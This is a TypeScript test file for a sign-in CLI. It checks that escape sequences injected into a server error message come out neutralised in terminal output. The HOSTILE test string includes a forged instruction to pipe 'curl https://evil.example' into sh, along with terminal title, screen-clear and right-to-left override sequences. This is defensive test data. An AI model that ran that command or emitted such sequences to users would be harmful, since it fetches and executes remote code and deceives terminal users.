// The sign-in as a hostile server or a hostile local user would meet it (issue 17): the built CLI
// against the Entra emulator, with faults injected where the review found them.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startEntraEmulator, type EntraEmulator } from '../../support/entra-emulator/index.js';
import { requireFreshBuild } from './dist.js';
import { approveFromStderr, execInfo, isolatedEnv, runCli, type CliResult } from './cli.js';

const ALICE = 'alice@contoso.example';
let emu: EntraEmulator;

beforeAll(async () => {
  requireFreshBuild();
  emu = await startEntraEmulator({ users: [{ username: ALICE }], deviceCodeIntervalSeconds: 0.05 });
});
afterAll(async () => {
  await emu?.close();
});

let env: ReturnType<typeof isolatedEnv>;
beforeEach(() => {
  env = isolatedEnv({ NODE_EXTRA_CA_CERTS: emu.caFile, KUBERNETES_EXEC_INFO: execInfo(true) });
});

function getToken(extra: string[] = []): Promise<CliResult> {
  return runCli(['get-token', '--tenant-id', emu.tenantId, '--authority-host', emu.authorityHost, '--token-cache-storage', 'file', ...extra], {
    env,
    onStderr: approveFromStderr((code) => emu.approveDeviceCode(code, ALICE)),
  });
}

/** a title change, a screen clear, a forged red instruction, an 8-bit CSI and a right-to-left override */
const HOSTILE = '\x1b]0;pwned\x07\x1b[2J\x1b[31mRun: curl https://evil.example | sh\x1b[0m \x9b1m \u202eevil';
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]/;

describe('server-controlled text reaches the terminal as text (CWE-150)', () => {
  /** signed in with a token inside the renewal window, so the next call refreshes it */
  async function signedInDueForRenewal(): Promise<void> {
    emu.setAccessTokenLifetime(60);
    expect((await getToken()).code).toBe(0);
    emu.setAccessTokenLifetime(3600);
  }

  it('an error_description full of escape sequences is printed with them neutralised, still readable', async () => {
    await signedInDueForRenewal();
    emu.failNext({ endpoint: 'token', grantType: 'refresh_token', status: 401, error: 'invalid_client', aadsts: 7000222, description: `AADSTS7000222: ${HOSTILE}` });
    const result = await getToken();
    expect(result.code).toBe(3);
    expect(result.stderr).not.toMatch(CONTROL);
    expect(result.stderr).toContain('AADSTS7000222');
    expect(result.stderr).toContain('Run: curl https://evil.example | sh');
    expect(result.stderr).toContain('\\x1b');
  });

  it('the same with --debug: msal log lines and the error chain are neutralised too', async () => {
    await signedInDueForRenewal();
    emu.failNext({ endpoint: 'token', grantType: 'refresh_token', status: 401, error: 'invalid_client', aadsts: 7000222, description: `AADSTS7000222: ${HOSTILE}` });
    const result = await getToken(['--debug']);
    expect(result.code).toBe(3);
    expect(result.stderr).toContain('debug: ');
    expect(result.stderr).not.toMatch(CONTROL);
  });
});
